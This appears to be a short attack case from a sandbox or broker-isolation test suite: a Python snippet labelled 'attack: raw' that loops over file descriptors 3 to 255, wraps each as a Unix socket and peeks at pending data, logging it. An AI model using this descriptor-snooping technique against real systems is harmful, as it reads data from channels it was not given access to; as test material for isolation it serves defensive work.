# attack: raw | peeks at what waits in every descriptor it can name
import json, os, struct
def send(body, payload=b""):
    body = body if isinstance(body, bytes) else json.dumps(body).encode()
    os.write(BROKER_FD, struct.pack("<II", len(body), len(payload)) + body + payload)
import socket
for number in range(3, 256):
    try:
        other = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM, 0, os.dup(number))
        log(other.recv(65536, socket.MSG_PEEK | socket.MSG_DONTWAIT).decode("latin-1")[-150:])
    except OSError:
        pass
